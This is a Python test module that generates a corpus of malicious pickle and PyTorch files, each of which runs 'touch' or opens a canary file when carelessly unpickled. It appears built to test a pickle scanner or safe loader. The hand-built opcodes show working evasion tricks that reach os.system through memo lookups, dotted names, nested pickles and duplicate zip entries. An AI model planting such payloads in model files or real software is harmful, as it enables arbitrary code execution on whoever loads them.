"""Malicious pickles of every shape: unpickled carelessly, each of them leaves a canary file behind."""

import collections
import pickle
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


class Runs:
    """Unpickled, it makes the canary."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (str(self.canary), "w")


class Builds:
    """Its state is applied by a call of its own."""

    def __init__(self, canary: Path) -> None:
        self.state = Runs(canary)

    def __reduce__(self) -> tuple[Any, ...]:
        return collections.OrderedDict, (), {"inner": self.state}


def _text(value: str) -> bytes:
    return b"\x8c" + struct.pack("<B", len(value)) + value.encode()


def _reduce(canary: Path, path: Path) -> None:
    path.write_bytes(pickle.dumps(Runs(canary)))


def _protocol_0(canary: Path, path: Path) -> None:
    path.write_bytes(pickle.dumps({"model": Runs(canary)}, protocol=0))


def _build(canary: Path, path: Path) -> None:
    path.write_bytes(pickle.dumps({"model": Builds(canary)}, protocol=2))


def _stack_global(canary: Path, path: Path) -> None:
    """The name of the function comes from the memo, not from the place where it is used."""
    call = b"\x80\x04" + _text("system") + b"\x94" + _text("posix") + b"\x94" + b"h\x01h\x00\x93"
    path.write_bytes(call + _text(f"touch {canary}") + b"\x85R.")


def _inst(canary: Path, path: Path) -> None:
    path.write_bytes(b"(V" + f"touch {canary}".encode() + b"\niposix\nsystem\n.")


def _obj(canary: Path, path: Path) -> None:
    path.write_bytes(
        b"\x80\x02(cposix\nsystem\nX" + struct.pack("<I", len(f"touch {canary}")) + f"touch {canary}".encode() + b"o."
    )


def _nested(canary: Path, path: Path) -> None:
    """A pickle inside the bytes of a pickle, loaded by the outer one."""

    class Loads:
        def __reduce__(self) -> tuple[Any, ...]:
            return pickle.loads, (pickle.dumps(Runs(canary)),)

    path.write_bytes(pickle.dumps({"state_dict": Loads()}))


def _in_zip(canary: Path, path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/weights.pkl", pickle.dumps(Runs(canary)))


def _behind_a_number(canary: Path, path: Path) -> None:
    """Begins with an opcode that few pickles begin with."""
    path.write_bytes(b"I1\n0" + pickle.dumps({"model": Runs(canary)}, protocol=0))


def _dotted_name(canary: Path, path: Path) -> None:
    """A harmless module's name, and from there, by attributes, a function that is not."""
    call = b"\x80\x04" + _text("posixpath") + _text("os.system") + b"\x93"
    path.write_bytes(call + _text(f"touch {canary}") + b"\x85R.")


def _in_zip_among_data(canary: Path, path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("data/weights.pkl", pickle.dumps(Runs(canary)))


def _in_zip_twice(canary: Path, path: Path) -> None:
    """Two entries of one name: readers differ in which they take."""
    with zipfile.ZipFile(path, "w") as archive, warnings.catch_warnings(action="ignore"):
        archive.writestr("archive/data.pkl", pickle.dumps(Runs(canary)))
        archive.writestr("archive/data.pkl", pickle.dumps({}))


def _torch_zip(canary: Path, path: Path) -> None:
    torch.save({"model": {"weight": torch.zeros(2)}, "more": Runs(canary)}, path)


def _torch_legacy(canary: Path, path: Path) -> None:
    value = {"model": torch.zeros(2), "more": Runs(canary)}
    torch.save(value, path, _use_new_zipfile_serialization=False)


CORPUS: dict[str, Callable[[Path, Path], None]] = {
    "reduce": _reduce,
    "protocol 0": _protocol_0,
    "build": _build,
    "stack global": _stack_global,
    "inst": _inst,
    "obj": _obj,
    "nested": _nested,
    "in zip": _in_zip,
    "behind a number": _behind_a_number,
    "dotted name": _dotted_name,
    "in zip among data": _in_zip_among_data,
    "in zip twice": _in_zip_twice,
    "torch zip": _torch_zip,
    "torch legacy": _torch_legacy,
}
